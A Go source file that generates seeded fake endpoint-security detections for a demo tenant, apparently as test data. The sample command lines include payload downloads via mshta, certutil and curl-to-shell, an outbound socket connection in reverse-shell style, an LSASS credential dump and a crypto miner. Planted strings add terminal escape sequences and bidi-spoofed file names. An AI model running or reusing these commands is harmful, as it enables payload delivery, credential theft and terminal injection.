package fake

import (
	"crypto/md5"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
)

// The seeded generator: the same seed and base time give the same data.

// DemoCID is the customer id of the generated tenant.
const DemoCID = "7c1b2d9e4f3a4b6c8d0e1f2a3b4c5d6e"

type technique struct {
	tactic, tacticID, technique, techniqueID, objective, scenario string
	// platforms the technique is seen on, space-separated; empty for all.
	platforms string
}

var techniques = []technique{
	{"Execution", "TA0002", "PowerShell", "T1059.001", "Follow Through", "suspicious_activity", "Windows"},
	{"Execution", "TA0002", "Command and Scripting Interpreter", "T1059", "Follow Through", "suspicious_activity", ""},
	{"Execution", "TA0002", "Unix Shell", "T1059.004", "Follow Through", "suspicious_activity", "Linux Mac"},
	{"Persistence", "TA0003", "Scheduled Task", "T1053.005", "Keep Access", "establish_persistence", "Windows"},
	{"Persistence", "TA0003", "Registry Run Keys / Startup Folder", "T1547.001", "Keep Access", "establish_persistence", "Windows"},
	{"Persistence", "TA0003", "Launch Agent", "T1543.001", "Keep Access", "establish_persistence", "Mac"},
	{"Privilege Escalation", "TA0004", "Bypass User Account Control", "T1548.002", "Gain Access", "privilege_escalation", "Windows"},
	{"Defense Evasion", "TA0005", "Masquerading", "T1036", "Keep Access", "evade_detection", ""},
	{"Defense Evasion", "TA0005", "Obfuscated Files or Information", "T1027", "Keep Access", "evade_detection", ""},
	{"Credential Access", "TA0006", "LSASS Memory", "T1003.001", "Gain Access", "credential_theft", "Windows"},
	{"Credential Access", "TA0006", "Brute Force", "T1110", "Gain Access", "credential_theft", ""},
	{"Discovery", "TA0007", "System Information Discovery", "T1082", "Explore", "reconnaissance", ""},
	{"Discovery", "TA0007", "Account Discovery", "T1087", "Explore", "reconnaissance", ""},
	{"Lateral Movement", "TA0008", "Remote Services: SMB/Windows Admin Shares", "T1021.002", "Explore", "lateral_movement", "Windows"},
	{"Collection", "TA0009", "Archive Collected Data", "T1560", "Follow Through", "data_collection", ""},
	{"Command and Control", "TA0011", "Ingress Tool Transfer", "T1105", "Contact Controlled Systems", "attacker_methodology", ""},
	{"Exfiltration", "TA0010", "Exfiltration Over C2 Channel", "T1041", "Follow Through", "data_exfiltration", ""},
	{"Impact", "TA0040", "Data Encrypted for Impact", "T1486", "Follow Through", "ransomware", ""},
	{"Machine Learning", "CSTA0004", "Sensor-based ML", "CST0007", "Falcon Detection Method", "NGAV", ""},
	{"Malware", "CSTA0001", "Malicious File", "CST0001", "Falcon Detection Method", "known_malware", ""},
}

type process struct {
	file, path, cmd, parent string
	platform                string
	arg                     string // what %s in cmd stands for: ip, user or b64
}

var processes = []process{
	{"powershell.exe", `\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\`, `powershell.exe -NoP -W Hidden -Enc %s`, `C:\Windows\Explorer.EXE`, "Windows", "b64"},
	{"cmd.exe", `\Device\HarddiskVolume3\Windows\System32\`, `cmd.exe /c whoami /all > %%TEMP%%\%s.txt`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\%s\Downloads\invoice.docm"`, "Windows", "user"},
	{"rundll32.exe", `\Device\HarddiskVolume3\Windows\System32\`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\%s.dmp full`, `cmd.exe /c`, "Windows", "user"},
	{"schtasks.exe", `\Device\HarddiskVolume3\Windows\System32\`, `schtasks /create /sc minute /mo 15 /tn "Updater%s" /tr "C:\ProgramData\upd.exe"`, `powershell.exe`, "Windows", "user"},
	{"mshta.exe", `\Device\HarddiskVolume3\Windows\System32\`, `mshta.exe http://198.51.100.%s/payload.hta`, `C:\Windows\Explorer.EXE`, "Windows", "ip"},
	{"certutil.exe", `\Device\HarddiskVolume3\Windows\System32\`, `certutil.exe -urlcache -split -f http://203.0.113.%s/a.exe C:\Users\Public\a.exe`, `cmd.exe /c`, "Windows", "ip"},
	{"bash", "/usr/bin/", `bash -c "curl -fsSL http://198.51.100.%s/x.sh | sh"`, `/usr/sbin/sshd -D`, "Linux", "ip"},
	{"python3", "/usr/bin/", `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.%s",4444))'`, `/bin/bash`, "Linux", "ip"},
	{"xmrig", "/tmp/.cache/", `/tmp/.cache/xmrig -o pool.example.net:3333 -u %s`, `/bin/sh -c`, "Linux", "user"},
	{"osascript", "/usr/bin/", `osascript -e 'do shell script "curl -s http://198.51.100.%s/m | sh"'`, `/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal`, "Mac", "ip"},
	{"launchctl", "/bin/", `launchctl load -w /Users/%s/Library/LaunchAgents/com.update.plist`, `/bin/zsh`, "Mac", "user"},
}

var firstNames = []string{"Alice", "Bruno", "Chen", "Dana", "Emeka", "Farah", "Gustav", "Hana", "Ivan", "Julia", "Kofi", "Lena"}
var lastNames = []string{"Martin", "Costa", "Wei", "Levy", "Okafor", "Haddad", "Berg", "Sato", "Petrov", "Silva", "Mensah", "Novak"}

type host struct {
	id, name, platform, os, ip, ext, mac, domain, ou, site string
}

// GenOptions steer the generator.
type GenOptions struct {
	Count int
	Seed  uint64
	// Base is the time the newest detections are near. Same seed and base,
	// same data.
	Base time.Time
	// OneSeverity, when non-zero, gives every detection that severity: a
	// tenant where thousands of rows share one sort value.
	OneSeverity int
	// CID is the tenant's customer id (default DemoCID): a Flight Control
	// child's data names its own.
	CID string
}

// cid is the customer id the data names.
func (o GenOptions) cid() string {
	if o.CID == "" {
		return DemoCID
	}
	return o.CID
}

func generate(o GenOptions) ([]*detection, []user) { return generateEach(o, nil) }

// generateEach generates as generate does, handing each detection to each
// once it is complete, in order, while the next ones are made.
func generateEach(o GenOptions, each func(*detection)) ([]*detection, []user) {
	r := rand.New(rand.NewPCG(o.Seed, o.Seed^0x9e3779b97f4a7c15))
	users := make([]user, len(firstNames))
	for i := range users {
		users[i] = user{
			UUID:      fmt.Sprintf("%08x-%04x-4%03x-8%03x-%012x", r.Uint32(), r.IntN(1<<16), r.IntN(1<<12), r.IntN(1<<12), r.Uint64()&(1<<48-1)),
			UID:       strings.ToLower(firstNames[i]+"."+lastNames[i]) + "@corp.example",
			FirstName: firstNames[i], LastName: lastNames[i], CID: o.cid(),
		}
		users[i].Email = users[i].UID
	}
	return genDetections(r, o, users, 30*24*time.Hour, each), users
}

// genDetections generates o.Count detections on hosts of their own, assigned
// to users, their last behaviours at most span before o.Base.
func genDetections(r *rand.Rand, o GenOptions, users []user, span time.Duration, each func(*detection)) []*detection {
	nHosts := max(20, o.Count/8)
	hosts := make([]host, nHosts)
	for i := range hosts {
		h := host{id: hex32(r)}
		switch x := r.IntN(10); {
		case x < 7:
			h.platform, h.os = "Windows", []string{"Windows 10", "Windows 11", "Windows Server 2019", "Windows Server 2022"}[r.IntN(4)]
			h.name = fmt.Sprintf("%s-%04d", []string{"WS", "LT", "SRV", "DC", "SQL"}[r.IntN(5)], r.IntN(10000))
			h.domain = "CORP.EXAMPLE"
			h.ou = []string{"Workstations", "Laptops", "Servers", "Finance", "Engineering"}[r.IntN(5)]
		case x < 9:
			h.platform, h.os = "Linux", []string{"Ubuntu 22.04", "RHEL 9.3", "Debian 12", "Amazon Linux 2023"}[r.IntN(4)]
			h.name = fmt.Sprintf("%s-%02d.prod.corp.example", []string{"web", "api", "db", "k8s-node", "bastion"}[r.IntN(5)], r.IntN(100))
		default:
			h.platform, h.os = "Mac", []string{"Sonoma (14)", "Sequoia (15)", "Tahoe (26)"}[r.IntN(3)]
			h.name = fmt.Sprintf("%s-MBP-%03d", firstNames[r.IntN(len(firstNames))], r.IntN(1000))
		}
		h.ip = fmt.Sprintf("10.%d.%d.%d", r.IntN(256), r.IntN(256), 1+r.IntN(254))
		h.ext = fmt.Sprintf("192.0.2.%d", 1+r.IntN(254))
		h.mac = fmt.Sprintf("%02x-%02x-%02x-%02x-%02x-%02x", r.IntN(256), r.IntN(256), r.IntN(256), r.IntN(256), r.IntN(256), r.IntN(256))
		h.site = []string{"Lisbon", "Frankfurt", "Austin", "Singapore"}[r.IntN(4)]
		hosts[i] = h
	}
	base := o.Base.UTC()
	dets := make([]*detection, o.Count)
	for i := range dets {
		h := hosts[r.IntN(len(hosts))]
		// Newer detections are more frequent: skew ages toward zero. Times
		// are whole seconds, as behaviours carry them.
		age := time.Duration(r.Float64()*r.Float64()*float64(span)) + time.Duration(r.IntN(1e9))
		last := base.Add(-age).Truncate(time.Second)
		nb := 1 + r.IntN(4)
		d := &detection{
			DetectionID: "ldt:" + h.id + ":" + strconv.Itoa(100000000+r.IntN(900000000000)),
			CID:         o.cid(),
			ShowInUI:    r.IntN(40) != 0,
			EmailSent:   r.IntN(2) == 0,
			Device: device{
				DeviceID: h.id, CID: o.cid(), Hostname: h.name, LocalIP: h.ip, ExternalIP: h.ext,
				MACAddress: h.mac, PlatformName: h.platform, OSVersion: h.os,
				AgentVersion:  "7." + strconv.Itoa(10+r.IntN(10)) + "." + strconv.Itoa(17000+r.IntN(2000)) + ".0",
				MachineDomain: h.domain, SiteName: h.site, Status: "normal",
				FirstSeen:       base.Add(-400 * 24 * time.Hour).Format(time.RFC3339),
				LastSeen:        last.Add(upTo(r, base.Sub(last), time.Hour)).Format(time.RFC3339),
				ProductTypeDesc: productType(h),
			},
			HostInfo: hostInfo{Domain: h.domain},
		}
		if h.ou != "" {
			d.Device.OU = []string{h.ou}
			d.HostInfo.ADDisplay = []string{h.ou + "/" + h.name}
			d.Device.Groups = []string{hex32(r)[:16]}
		}
		// Behaviours run back from the last one; the detection is created
		// a few seconds after the first was seen, and each later behaviour
		// becomes its alert as soon after it, before the base too.
		times := make([]time.Time, nb)
		times[0] = last
		for b := 1; b < nb; b++ {
			times[b] = times[b-1].Add(-time.Duration(1+r.IntN(600)) * time.Second)
		}
		first := times[nb-1]
		// Made at their size: behaviours are large, and growing the
		// slice copied them over and over.
		d.Behaviors = make([]behavior, 0, nb)
		d.BehaviorsProc = make([]string, 0, nb)
		for b := nb - 1; b >= 0; b-- {
			d.Behaviors = append(d.Behaviors, genBehavior(r, h, times[b], users))
		}
		created := first.Add(upTo(r, base.Sub(last), 30*time.Second))
		d.FirstBehavior = first.Format(time.RFC3339Nano)
		d.LastBehavior = last.Format(time.RFC3339Nano)
		d.CreatedTimestamp = created.Format(time.RFC3339Nano)
		for _, b := range d.Behaviors {
			if b.Severity > d.MaxSeverity {
				d.MaxSeverity = b.Severity
			}
			if b.Confidence > d.MaxConfidence {
				d.MaxConfidence = b.Confidence
			}
			d.BehaviorsProc = append(d.BehaviorsProc, "pid:"+h.id+":"+b.TriggeringGraphID)
		}
		if o.OneSeverity > 0 {
			d.MaxSeverity = o.OneSeverity
		}
		d.MaxSeverityName = severityName(d.MaxSeverity)
		switch x := r.IntN(100); {
		case x < 55:
			d.Status = "new"
		case x < 70:
			d.Status = "in_progress"
		case x < 78:
			d.Status = "true_positive"
		case x < 88:
			d.Status = "false_positive"
		case x < 91:
			d.Status = "ignored"
		case x < 98:
			d.Status = "closed"
		default:
			d.Status = "reopened"
		}
		// The analyst's first look comes after the last behaviour has
		// become an alert of its own (each behaviour's alert carries the
		// same durations, counted from its own creation), the resolution
		// after the first look, and the last update after both.
		seen := created.Add(last.Sub(first))
		if d.Status != "new" && base.Sub(seen) < time.Minute {
			d.Status = "new"
		}
		done := seen
		if d.Status != "new" {
			done = seen.Add(time.Minute + upTo(r, base.Sub(seen)-time.Minute, 24*time.Hour))
			d.SecondsToTriaged = int64(done.Sub(created) / time.Second)
		}
		switch d.Status {
		case "closed", "true_positive", "false_positive", "ignored":
			done = done.Add(upTo(r, base.Sub(done), 3*24*time.Hour))
			d.SecondsToResolved = int64(done.Sub(created) / time.Second)
		}
		if d.Status != "new" || r.IntN(3) == 0 {
			u := users[r.IntN(len(users))]
			d.AssignedToUID, d.AssignedToName, d.AssignedToUUID = u.UID, u.Name(), u.UUID
		}
		d.DateUpdated = done.Add(upTo(r, base.Sub(done), time.Hour)).Format(time.RFC3339Nano)
		if r.IntN(12) == 0 {
			d.AdversaryIDs = []int64{int64(1 + r.IntN(300))}
		}
		for _, b := range d.Behaviors {
			if b.PatternDispoDet.QuarantineFile {
				d.Quarantined = append(d.Quarantined, quarantinedFile{ID: h.id + "_" + b.SHA256, Paths: []string{b.Filepath + b.Filename}, SHA256: b.SHA256, State: "quarantined"})
			}
		}
		if o.Count >= 10 && i%197 == 13 {
			makeHostile(d, i)
		}
		dets[i] = d
		if each != nil {
			each(d)
		}
	}
	return dets
}

// upTo draws a duration from zero to the smaller of room and most: room is
// what is left before the generator's base, so nothing lands after it.
func upTo(r *rand.Rand, room, most time.Duration) time.Duration {
	if room = min(room, most); room <= 0 {
		return 0
	}
	return time.Duration(r.Int64N(int64(room) + 1))
}

func (u user) Name() string { return u.FirstName + " " + u.LastName }

func severityName(s int) string {
	switch {
	case s >= 80:
		return "Critical"
	case s >= 60:
		return "High"
	case s >= 40:
		return "Medium"
	case s >= 20:
		return "Low"
	}
	return "Informational"
}

// processesOf lists the processes of each platform.
var processesOf = func() map[string][]process {
	m := map[string][]process{}
	for _, p := range processes {
		m[p.platform] = append(m[p.platform], p)
	}
	return m
}()

// techniquesOf lists the techniques seen on each platform.
var techniquesOf = func() map[string][]technique {
	m := map[string][]technique{}
	for _, t := range techniques {
		for _, p := range []string{"Windows", "Linux", "Mac"} {
			if t.platforms == "" || strings.Contains(t.platforms, p) {
				m[p] = append(m[p], t)
			}
		}
	}
	return m
}()

func genBehavior(r *rand.Rand, h host, t time.Time, users []user) behavior {
	candidates := processesOf[h.platform]
	p := candidates[r.IntN(len(candidates))]
	seen := techniquesOf[h.platform]
	tq := seen[r.IntN(len(seen))]
	// Severities as tenants see them: mostly low and medium, few critical.
	sev := []int{10, 30, 30, 30, 50, 50, 50, 50, 70, 70, 90}[r.IntN(11)]
	sev += r.IntN(10) - 5
	sev = max(2, min(100, sev))
	u := users[r.IntN(len(users))]
	user := strings.ToLower(u.FirstName)
	file, parentFile := fileHashes(r), fileHashes(r)
	arg := strconv.Itoa(1 + r.IntN(254))
	switch p.arg {
	case "b64":
		arg = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
	case "user":
		arg = user
	}
	parent := p.parent
	if strings.Contains(parent, "%s") {
		parent = fmt.Sprintf(parent, user)
	}
	kill := sev >= 60 && r.IntN(2) == 0
	quar := tq.scenario == "known_malware" && r.IntN(2) == 0
	dispo := dispositionDetails{Detect: true, KillProcess: kill, QuarantineFile: quar, ProcessBlocked: sev >= 80 && r.IntN(3) == 0}
	code := 2048
	if kill {
		code = 2176
	}
	if quar {
		code |= 512
	}
	b := behavior{
		BehaviorID: strconv.Itoa(4000 + r.IntN(9000)),
		Timestamp:  t.Format(time.RFC3339),
		Severity:   sev,
		Confidence: max(10, min(100, 40+r.IntN(61))),
		Tactic:     tq.tactic, TacticID: tq.tacticID, Technique: tq.technique, TechniqueID: tq.techniqueID,
		Objective: tq.objective, Scenario: tq.scenario,
		DisplayName: camel(tq.technique),
		Description: "A process associated with " + tq.technique + " was observed on this host. Review the command line and the process tree.",
		Filename:    p.file, Filepath: p.path, Cmdline: fmt.Sprintf(p.cmd, arg),
		MD5: file.md5, SHA256: file.sha256,
		UserName: user, UserID: strconv.Itoa(1000 + r.IntN(9000)),
		AllegedFiletype: fileTypeOf[h.platform],
		PatternDispo:    code, PatternDispoDet: dispo,
		ParentDetails: parentDetails{ParentCmdline: parent, ParentMD5: parentFile.md5, ParentSHA256: parentFile.sha256,
			ParentProcGraph: "pid:" + h.id + ":" + strconv.Itoa(r.IntN(1e12))},
		ControlGraphID:    "ctg:" + h.id + ":" + strconv.Itoa(r.IntN(1e12)),
		TriggeringGraphID: "pid:" + h.id + ":" + strconv.Itoa(r.IntN(1e12)),
		DeviceID:          h.id,
	}
	if h.platform == "Windows" {
		b.UserID = "S-1-5-21-" + strconv.Itoa(r.IntN(1e9)) + "-" + b.UserID
	}
	if r.IntN(4) == 0 {
		b.IOCType, b.IOCValue, b.IOCSource, b.IOCDescription = "hash_sha256", b.SHA256, "library_load", b.Filepath+b.Filename
	}
	return b
}

type hashes struct{ md5, sha256 string }

// fileHashes are the MD5 and SHA-256 of one made-up file: two hashes of the
// same bytes, neither derived from the other.
func fileHashes(r *rand.Rand) hashes {
	var content [32]byte
	binary.LittleEndian.PutUint64(content[:], r.Uint64())
	binary.LittleEndian.PutUint64(content[8:], r.Uint64())
	m, s := md5.Sum(content[:]), sha256.Sum256(content[:])
	return hashes{hex.EncodeToString(m[:]), hex.EncodeToString(s[:])}
}

// makeHostile plants attacker-written strings, as real endpoints produce,
// in the shape of the host's own platform.
func makeHostile(d *detection, i int) {
	b := &d.Behaviors[0]
	win := d.Device.PlatformName == "Windows"
	switch i % 4 {
	case 0:
		if win {
			b.Cmdline = "powershell.exe -c \x1b]52;c;ZWNobyBwd25lZA==\x07 \x1b]0;owned\x07\x1b[2J\x1b[H echo hi"
			b.Filename = "evil\x1b[31mred\x1b[0m.exe"
		} else {
			b.Cmdline = "sh -c 'echo \x1b]52;c;ZWNobyBwd25lZA==\x07 \x1b]0;owned\x07\x1b[2J\x1b[H hi'"
			b.Filename = "evil\x1b[31mred\x1b[0m"
		}
	case 1:
		if win {
			b.Filename = "invoice\u202Efdp.exe"
			b.Cmdline = "cmd.exe /c \u202Etxt.exe\u202C \x00\x01\x08\x7f\u0085\u009b31m done"
		} else {
			b.Filename = "invoice\u202Efdp.sh"
			b.Cmdline = "sh -c \u202Etxt.sh\u202C \x00\x01\x08\x7f\u0085\u009b31m done"
		}
	case 2:
		b.Cmdline = "python3 -c '" + strings.Repeat("A", 10240) + "'"
		if win {
			b.Cmdline = "python.exe -c '" + strings.Repeat("A", 10240) + "'"
		}
	case 3:
		b.Cmdline = "bash -c 'printf \x1bP+q544e\x1b\\ ; \x1b[6n'\r\nfake line"
		if win {
			b.Cmdline = "cmd.exe /c \"echo \x1bP+q544e\x1b\\ \x1b[6n\"\r\nfake line"
		}
		d.Device.Hostname = "host\x1b[8mhidden\x1b[28m-01"
	}
}

// hex32 is 32 lowercase hex digits of two draws, as %016x%016x prints
// them (without fmt: the generator makes thousands).
func hex32(r *rand.Rand) string {
	var b [32]byte
	for half, v := range [2]uint64{r.Uint64(), r.Uint64()} {
		for i := 15; i >= 0; i-- {
			b[16*half+i] = "0123456789abcdef"[v&15]
			v >>= 4
		}
	}
	return string(b[:])
}

// fileTypeOf is a behaviour's alleged file type by platform.
var fileTypeOf = map[string]string{"Windows": "exe", "Linux": "elf", "Mac": "macho"}

func productType(h host) string {
	if strings.Contains(h.name, "SRV") || h.platform == "Linux" {
		return "Server"
	}
	return "Workstation"
}
